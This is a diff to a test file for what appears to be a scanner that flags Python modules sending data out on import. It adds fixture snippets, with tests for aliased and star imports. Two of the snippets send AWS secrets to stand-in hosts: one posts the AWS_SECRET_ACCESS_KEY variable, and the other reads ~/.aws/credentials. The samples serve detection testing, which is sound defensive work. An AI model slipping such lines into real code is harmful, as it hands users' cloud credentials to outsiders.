@@ -56,6 +56,25 @@ def _scan(tmp_path: Path, module: str) -> tuple[Verdict, set[str]]:
 
         report()
         """,
+        # a star import of the client library
+        """
+        import os
+        from requests import *
+
+        def _sync():
+            post("https://collect.example.invalid/e", data=os.getenv("AWS_SECRET_ACCESS_KEY"))
+
+        _sync()
+        """,
+        # the module imported under another name
+        """
+        import os, requests as rq
+
+        def _sync():
+            rq.post("http://192.0.2.11/e", data=open(os.path.expanduser("~/.aws/credentials")).read())
+
+        _sync()
+        """,
         # the user's name and machine sent out at import by a bare-imported subprocess.run
         """
         import getpass
@@ -114,3 +133,6 @@ def test_names_and_calls() -> None:
     calls = bare_sink_calls(source, names)
     assert [source[c : c + 3] for c in calls] == [b"sh(", b"get", b"soc"]
     assert bare_sink_names(b"import requests\nfrom os import path\n") == frozenset()
+    aliased = bare_sink_names(b"import os, requests as rq\nimport subprocess as subprocess\n")
+    assert b"rq.post" in aliased and not any(n.startswith(b"subprocess.") for n in aliased)
+    assert b"run" in bare_sink_names(b"from subprocess import *\n")
